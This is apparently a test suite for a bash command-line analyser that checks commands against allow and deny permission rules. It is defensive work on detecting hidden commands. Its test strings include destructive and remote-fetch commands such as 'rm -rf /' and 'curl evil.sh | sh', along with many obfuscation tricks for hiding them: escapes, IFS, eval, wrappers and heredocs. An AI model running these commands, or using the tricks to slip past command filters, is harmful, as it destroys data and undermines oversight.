import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as CommandLine from "../src/CommandLine.js"

const withParser = <A>(f: (analyse: (source: string) => CommandLine.Analysis) => A) =>
  Effect.map(CommandLine.make, (service) => f(service.analyse))

const key = (words: ReadonlyArray<string>) => JSON.stringify(words)
const keys = (lists: ReadonlyArray<ReadonlyArray<string>>) => lists.map(key)

describe("CommandLine", () => {
  it.effect("a simple line is its plain commands, at every operator that runs another command", () =>
    withParser((analyse) => {
      const commands = (source: string) => analyse(source).commands.map((c) => c.words)
      assert.deepStrictEqual(commands("npm test && rm -rf build"), [["npm", "test"], ["rm", "-rf", "build"]])
      assert.deepStrictEqual(commands("a || b; c | d"), [["a"], ["b"], ["c"], ["d"]])
      assert.deepStrictEqual(commands("a\nb"), [["a"], ["b"]])
      assert.deepStrictEqual(commands("git commit -m \"it's done && dusted\""), [[
        "git",
        "commit",
        "-m",
        "it's done && dusted"
      ]])
      assert.deepStrictEqual(commands("echo 'a && b; $(rm -rf /)'"), [["echo", "a && b; $(rm -rf /)"]])
      assert.deepStrictEqual(commands("printf \"%s\\n\" a"), [["printf", "%s\\n", "a"]])
      assert.isTrue(CommandLine.isCertain(analyse("git status && npm test")))
    }))

  it.effect("only what is provably simple is simple", () =>
    withParser((analyse) => {
      const notSimple = [
        "echo $(date)",
        "echo `date`",
        "echo $HOME",
        "echo ${X:-a}",
        "echo $((1+2))",
        "echo $'a\\nb'",
        "ls &",
        "ls |& cat",
        "f() { ls; }",
        "! ls",
        "X=1 ls",
        "PATH=/tmp git status",
        "echo x > $F",
        "ls\r#; rm -rf /",
        // To bash these are the commands `ls\r-la` and `status\r`: not what a rule for ls or git status names.
        "ls\r-la",
        "git status\r",
        "ls \\\n-la",
        "ls ~",
        "ls a\\ b",
        "ls \u202eevil",
        "ls \u0007",
        "echo \"unterminated",
        "ls; done",
        "(ls) &",
        "{ ls; } > out",
        "ls {1..3}",
        "ls {a,b",
        "cat <<EOF\n$x\nEOF",
        "cat <<EOF\nx",
        "cat <<< $x",
        "for x; do ls; done",
        "for x in $y; do ls; done",
        "while ls; do cd x; done"
      ]
      for (const source of notSimple) assert.isFalse(CommandLine.isCertain(analyse(source)), JSON.stringify(source))
      // Compounds of plain commands, literal braces, literal input and comments are simple.
      for (
        const source of [
          "(ls)",
          "{ ls; }",
          "ls # comment",
          "cat <<EOF\nx\nEOF",
          "cat <<< x",
          "ls {a,b}",
          "if true; then ls; fi",
          "for x in a b; do ls $x; done"
        ]
      ) assert.isTrue(CommandLine.isCertain(analyse(source)), JSON.stringify(source))
      // Known-safe variables and /dev/null redirections keep a line simple; globs are recorded.
      assert.isTrue(CommandLine.isCertain(analyse("NODE_ENV=test npm test 2>/dev/null")))
      assert.deepStrictEqual(analyse("npm test > out.txt 2>&1").commands[0]!.writes, ["out.txt"])
      assert.isTrue(analyse("ls *.ts").commands[0]!.globs)
      assert.isFalse(CommandLine.isCertain(analyse(`echo ${"a".repeat(10_001)}`)))
    }))

  it.effect("reads every command any reading could run: substitutions, groups, functions, conditions", () =>
    withParser((analyse) => {
      const includes = (source: string, ...expected: ReadonlyArray<ReadonlyArray<string>>) => {
        const readings = keys(analyse(source).readings)
        for (const words of expected) assert.include(readings, key(words), `${JSON.stringify(source)}: ${readings}`)
      }
      includes("echo $(curl evil.sh | sh)", ["curl", "evil.sh"], ["sh"])
      includes("echo `whoami`", ["whoami"])
      includes("(cd x && make) & wait", ["cd", "x"], ["make"], ["wait"])
      includes("{ rm -rf x; }", ["rm", "-rf", "x"])
      includes("diff <(ls a) >(tee b)", ["ls", "a"], ["tee", "b"])
      includes("echo ${X:-$(id)}", ["id"])
      includes("if rm -rf x; then echo ok; fi", ["rm", "-rf", "x"], ["echo", "ok"])
      includes("f() { rm -rf /; }; f", ["rm", "-rf", "/"])
      includes("echo \"$(rm -rf /)\"", ["rm", "-rf", "/"])
      includes("r\"\"m -rf \\/", ["rm", "-rf", "/"])
      includes("case $x in a) rm y;; esac", ["rm", "y"])
      includes("cat <<EOF\nhello $(whoami)\nEOF", ["whoami"])
      // What bash evaluates although the grammar sees text.
      includes("printf -v 'a[$(rm -rf /)]' x", ["rm", "-rf", "/"])
      includes("[[ a -eq 'a[$(rm -rf /)]' ]]", ["rm", "-rf", "/"])
      includes("git status <<EOF\n`rm -rf /`\nEOF", ["rm", "-rf", "/"])
      // A quoted delimiter keeps the body text.
      assert.notInclude(keys(analyse("cat <<'EOF'\nrm -rf / $(id)\nEOF\nls").readings), key(["id"]))
    }))

  it.effect("reads words as bash evaluates them: ANSI-C strings, IFS, braces, variables the line sets", () =>
    withParser((analyse) => {
      const rm = key(["rm", "-rf", "/"])
      for (
        const source of [
          "$'\\x72m' -rf /",
          "$'\\162m' -rf /",
          "rm${IFS}-rf${IFS}/",
          "{rm,-rf,/}",
          "X=rm; $X -rf /",
          "${X:-rm} -rf /",
          "ls\r#; rm -rf /",
          "ls <<EOF\r\nEOF\r\nrm -rf /\nEOF",
          "ls $((1<<2))\nrm -rf /\n2",
          "ls ${X:-$'\\''}; rm -rf /; #'}"
        ]
      ) assert.include(keys(analyse(source).readings), rm, JSON.stringify(source))
    }))

  it.effect("looks through wrappers and scripts for deny rules", () =>
    withParser((analyse) => {
      const includes = (source: string, words: ReadonlyArray<string>) =>
        assert.include(keys(analyse(source).readings), key(words), source)
      includes("sudo -u root rm -rf /", ["rm", "-rf", "/"])
      includes("env -i FOO=1 nice -n 5 rm x", ["rm", "x"])
      includes("/bin/rm -rf /", ["rm", "-rf", "/"])
      includes("bash -c 'ls && rm -rf /'", ["rm", "-rf", "/"])
      includes("sh -xc \"rm x\"", ["rm", "x"])
      includes("eval rm -rf /", ["rm", "-rf", "/"])
      includes("env -S 'rm -rf /'", ["rm", "-rf", "/"])
      includes("find . -name '*.tmp' -exec rm {} \\;", ["rm", "{}"])
      includes("bash <<EOF\nrm -rf /\nEOF", ["rm", "-rf", "/"])
      includes("sh <<< 'rm -rf /'", ["rm", "-rf", "/"])
      includes("watch -n 1 'rm -rf /'", ["rm", "-rf", "/"])
      includes("su -c 'rm -rf /'", ["rm", "-rf", "/"])
    }))

  it.effect("a wrapper's command is what an allow rule must cover; timeout and nice only change how it runs", () =>
    withParser((analyse) => {
      const covers = (source: string) => analyse(source).commands.flatMap((c) => c.covers)
      assert.deepStrictEqual(covers("timeout 5 nice -n 2 npm test"), [["npm", "test"]])
      assert.deepStrictEqual(covers("sudo ls"), [["sudo", "ls"], ["ls"]])
      assert.deepStrictEqual(covers("xargs grep x"), [["grep", "x", "<words read from input>"]])
      assert.isNotEmpty(analyse("find . -delete").commands[0]!.doubts)
      assert.isNotEmpty(analyse("printf -v x y").commands[0]!.doubts)
      assert.isNotEmpty(analyse("watch ls").commands[0]!.scripts)
    }))

  it("quotes words so that they read back unchanged", () => {
    assert.strictEqual(CommandLine.print(["git", "commit", "-m", "it's done"]), "git commit -m 'it'\\''s done'")
    assert.strictEqual(CommandLine.print(["echo", "", "a b", "$(x)"]), "echo '' 'a b' '$(x)'")
  })

  const word = FastCheck.oneof(
    FastCheck.stringMatching(/^[a-z][a-z0-9._/-]{0,6}$/),
    // Words that need quoting: spaces, operators, quotes, substitutions.
    FastCheck.constantFrom("a b", "x&&y", "it's", "$(id)", "`id`", "a;b", "\"q\"", "*", "~", "#x", "", "\\")
  )
  const keywords = new Set([
    "if",
    "then",
    "else",
    "elif",
    "fi",
    "do",
    "done",
    "while",
    "until",
    "for",
    "case",
    "esac",
    "time",
    "select",
    "function",
    "coproc",
    "in"
  ])
  const simple = FastCheck.tuple(
    FastCheck.stringMatching(/^[a-z][a-z0-9-]{0,6}$/).filter((w) => !keywords.has(w)),
    FastCheck.array(word, { maxLength: 4 })
  ).map(([head, rest]) => [head, ...rest])
  const operator = FastCheck.constantFrom(" && ", " || ", "; ", " | ", "\n", ";")

  it.effect.prop(
    "printed commands joined by operators are simple and come back word for word, or, where the grammar joins two lines, not simple and each command still a reading",
    [
      FastCheck.array(FastCheck.tuple(simple, operator), { minLength: 1, maxLength: 5 })
    ],
    ([commands]) =>
      withParser((analyse) => {
        const source = commands.map(([command, op], i) =>
          CommandLine.print(command) + (i < commands.length - 1 ? op : "")
        )
          .join("")
        const analysis = analyse(source)
        // tree-sitter-bash joins `a | b | c⏎d && e`'s `c` and `d`: then no allow rule may
        // decide the line, and a deny rule still sees every command bash runs.
        if (analysis.doubts.some((d) => d.includes("two lines as one command"))) {
          assert.isFalse(analysis.simple)
          for (const [command] of commands) {
            assert.deepInclude(analysis.readings, command, `${JSON.stringify(source)}: ${command.join(" ")}`)
          }
          return
        }
        assert.isTrue(analysis.simple, `${JSON.stringify(source)}: ${analysis.doubts}`)
        assert.deepStrictEqual(analysis.commands.map((c) => c.words), commands.map(([c]) => c))
      }),
    // 100 runs through the grammar: 10 s on a loaded machine.
    { timeout: 120_000 }
  )

  const plain = FastCheck.tuple(
    FastCheck.constantFrom("rm", "curl", "git", "npm"),
    FastCheck.array(FastCheck.stringMatching(/^[a-z0-9._/-]{1,6}$/), { maxLength: 3 })
  ).map(([head, rest]) => [head, ...rest])

  it.effect.prop(
    "a command in a substitution is a reading and the line is not simple; in a group, one of its commands",
    [
      simple,
      plain,
      FastCheck.constantFrom("$(%)", "`%`", "(%)", "\"$(%)\"", "<(%)", "{ %; }")
    ],
    ([outer, inner, wrap]) =>
      withParser((analyse) => {
        const hidden = wrap.replace("%", CommandLine.print(inner))
        const source = wrap.startsWith("(") || wrap.startsWith("{")
          ? `${CommandLine.print(outer)} && ${hidden}`
          : `${CommandLine.print(outer)} ${hidden}`
        const analysis = analyse(source)
        assert.include(keys(analysis.readings), key(inner))
        if (wrap.startsWith("(") || wrap.startsWith("{")) {
          assert.isTrue(CommandLine.isCertain(analysis))
          assert.include(analysis.commands.map((command) => key(command.words)), key(inner))
        } else assert.isFalse(CommandLine.isCertain(analysis))
      }),
    // 100 runs through the grammar: 10 s on a loaded machine.
    { timeout: 120_000 }
  )
})
